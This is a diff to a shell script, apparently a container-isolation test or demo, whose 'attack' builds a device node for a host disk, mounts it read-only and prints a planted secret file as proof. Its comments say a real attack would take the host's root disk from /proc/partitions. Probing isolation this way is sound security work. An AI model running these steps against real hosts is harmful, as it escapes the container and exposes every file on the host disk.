@@ -1,7 +1,7 @@
 # Attack: make the device node of a host disk and mount it (read-only).
 # A block device is the whole filesystem of the host, below every permission the
 # host's files have: whoever mounts it reads (and could write) everything on it.
-# The demo attached a small loop disk on the host with the nonce on it; its numbers
+# The demo attached a small loop disk on the host with a secret on it; its numbers
 # are in $MC_DISK (MAJOR MINOR). A real attack would pick the host's root disk
 # from /proc/partitions the same way.
 node=/dev/mc-host-disk
@@ -18,9 +18,7 @@ fi
 mkdir -p /mnt/host-disk
 if mount -o ro -t ext2 "$node" /mnt/host-disk; then
     echo "mount -o ro -t ext2 $node /mnt/host-disk: ok"
-    read_back=$(cat /mnt/host-disk/nonce)
-    echo "read /mnt/host-disk/nonce: $read_back"
-    [ "$read_back" = "$MC_NONCE" ] && echo "PROOF $MC_NONCE"
+    echo "read /mnt/host-disk/secret: PROOF $(cat /mnt/host-disk/secret 2>&1)"
     umount /mnt/host-disk
 else
     echo "mount -o ro -t ext2 $node /mnt/host-disk: refused"
